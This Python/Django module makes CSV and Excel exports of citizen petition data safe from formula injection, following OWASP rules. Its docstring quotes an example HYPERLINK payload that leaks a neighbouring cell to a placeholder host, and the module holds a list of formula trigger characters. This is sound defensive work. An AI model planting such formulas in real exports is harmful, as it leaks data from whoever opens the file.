"""Spreadsheet exports that cannot run a formula: the ONE place every CSV and Excel export
writes its cells through.

A citizen types a petition's title, name or address; a staff member opens the export in Excel
or WPS. A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
there (`=HYPERLINK("http://x/?"&A1,"点击")` leaks the neighbouring cell when clicked), and
spreadsheets normalise the full-width `＝＋－＠` a Chinese input method types to the same.
Following the OWASP CSV-injection rules, such a cell gets a leading single quote, which
spreadsheets show as text; in .xlsx every text cell is also written as a string, never a
formula. Numbers and dates our own code computes stay numbers and dates.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal

import openpyxl
from django.http import HttpResponse
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# What makes a spreadsheet read a cell as a formula (or a DDE command), with the full-width
# forms an input method produces.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

Cell = str | int | float | Decimal | dt.date | dt.datetime | None

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def cell_text_safe(value: str) -> str:
    """A text cell a spreadsheet shows as text: prefixed with `'` when it would be a formula.
    Leading spaces do not hide a trigger (some spreadsheets trim them on import)."""
    if value.lstrip(" \u3000").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def cell_safe(value: Cell) -> Cell:
    """Any cell value made safe: text through `cell_text_safe`, None as empty text; numbers
    and dates (which our code, not a citizen, produced) unchanged."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal | dt.date):
        return value
    return cell_text_safe(str(value))


def csv_bytes(*, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark (so Excel shows Chinese), every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in _with_header(header, rows):
        writer.writerow([_csv_value(cell_safe(value)) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _csv_value(value: Cell) -> str:
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M")
    return str(value)


def xlsx_bytes(*, sheet_title: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """An .xlsx workbook of one sheet. Text cells are made safe and typed as strings, so
    no cell is ever a formula; characters XML cannot hold are dropped instead of failing."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(title=ILLEGAL_CHARACTERS_RE.sub("", sheet_title)[:31])
    for row in _with_header(header, rows):
        sheet.append([_xlsx_cell(sheet, cell_safe(value)) for value in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _xlsx_cell(sheet, value: Cell) -> WriteOnlyCell:
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # Excel has no time zones; callers pass local time
    if isinstance(value, str):
        cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
        cell.data_type = "s"  # a string, whatever it starts with
        return cell
    return WriteOnlyCell(sheet, value=value)


def _with_header(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterable[Sequence[Cell]]:
    yield list(header)
    yield from rows


@dataclass(frozen=True)
class ExportFile:
    content: bytes
    content_type: str
    filename: str


def export_file(
    *, fmt: str, stem: str, sheet_title: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]
) -> ExportFile:
    """The export in `fmt` ("csv" or "xlsx"), named `<stem>.<fmt>`."""
    if fmt == "xlsx":
        content = xlsx_bytes(sheet_title=sheet_title, header=header, rows=rows)
        return ExportFile(content, XLSX_CONTENT_TYPE, f"{stem}.xlsx")
    return ExportFile(csv_bytes(header=header, rows=rows), CSV_CONTENT_TYPE, f"{stem}.csv")


def export_response(export: ExportFile) -> HttpResponse:
    """The download: an attachment that no browser or proxy keeps a copy of."""
    response = HttpResponse(export.content, content_type=export.content_type)
    response["Content-Disposition"] = f'attachment; filename="{export.filename}"'
    response["Cache-Control"] = "no-store"
    return response
